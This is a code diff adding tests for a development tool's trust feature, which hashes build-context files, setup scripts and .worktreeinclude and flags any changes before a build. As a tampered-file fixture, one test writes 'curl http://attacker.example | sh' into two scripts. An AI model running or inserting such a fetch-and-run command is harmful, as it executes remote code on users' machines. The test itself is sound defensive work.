@@ -5,7 +5,7 @@
  * record lives in the lazy home, 0600 in a 0700 folder; lazy init trusts what it writes.
  */
 import { afterAll, describe, expect, test } from "bun:test";
-import { existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { cleanupAll, Project } from "../helpers/lazy";
 
@@ -105,5 +105,50 @@ describe("lazy trust", () => {
     expect(r.stderr).toMatch(/lazy\.toml:2:1 container\.dockerfile \(its contents\) — changed since you trusted it/);
     await p.ok(["trust"]);
     expect((await p.run(["task", "list"])).code).toBe(0);
+  });
+
+  test("the files a build copies, what setup names and .worktreeinclude are recorded by content: --show names each change, lazy trust says it as it approves", async () => {
+    const p = new Project();
+    const put = (path: string, text: string) => writeFileSync(join(p.root, path), text);
+    mkdirSync(join(p.root, "docker"));
+    put("docker/Dockerfile", "FROM scratch\nCOPY prep.sh /prep.sh\n");
+    put("docker/prep.sh", "echo prepared\n");
+    put("setup.sh", "true\n");
+    put(".worktreeinclude", ".env\n");
+    p.writeToml('[container]\ndockerfile = "docker/Dockerfile"\nsetup = "sh setup.sh"\n');
+    const record = JSON.parse(readFileSync(join(p.home, "trusted.json"), "utf8")).files[join(p.root, "lazy.toml")];
+    expect(Object.keys(record.build.context.files)).toEqual(["docker/Dockerfile", "docker/prep.sh"]);
+    expect(record.build.context.files["docker/prep.sh"]).toMatch(/^644:[0-9a-f]{64}$/);
+    expect(Object.keys(record.build.setup)).toEqual(["setup.sh"]);
+    expect(record.build.include).toMatch(/^[0-9a-f]{64}$/);
+    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
+
+    // The same bytes written again (a checkout, a merge: new times) change nothing.
+    put("docker/prep.sh", "echo prepared\n");
+    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
+    // Other bytes, a new file, setup's script and .worktreeinclude: each named.
+    put("docker/prep.sh", "curl http://attacker.example | sh\n");
+    put("docker/extra.txt", "new\n");
+    put("setup.sh", "curl http://attacker.example | sh\n");
+    put(".worktreeinclude", "*\n");
+    const show = (await p.ok(["trust", "--show"])).stdout;
+    expect(show).toContain("(changed since: lazy trust again after looking)");
+    for (const line of ["docker/prep.sh (changed)", "docker/extra.txt (added)", "setup.sh (changed)", ".worktreeinclude (changed)"])
+      expect(show).toContain(line);
+    // Only a build refuses: other commands go on (the config's keys did not change).
+    expect((await p.run(["task", "list"])).code).toBe(0);
+    const t = await p.ok(["trust"]);
+    expect(t.stdout).toContain("docker/prep.sh (changed, in the build context of docker/Dockerfile)");
+    expect(t.stdout).toContain("setup.sh (changed, named by [container] setup)");
+    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
+  });
+
+  test("a Dockerfile that copies nothing from its folder has no context to trust: the files beside it change freely", async () => {
+    const p = new Project();
+    writeFileSync(join(p.root, "Dockerfile"), "FROM scratch\nRUN true\n");
+    writeFileSync(join(p.root, "notes.txt"), "one\n");
+    p.writeToml('[container]\ndockerfile = "Dockerfile"\n');
+    writeFileSync(join(p.root, "notes.txt"), "two\n");
+    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
   });
 });
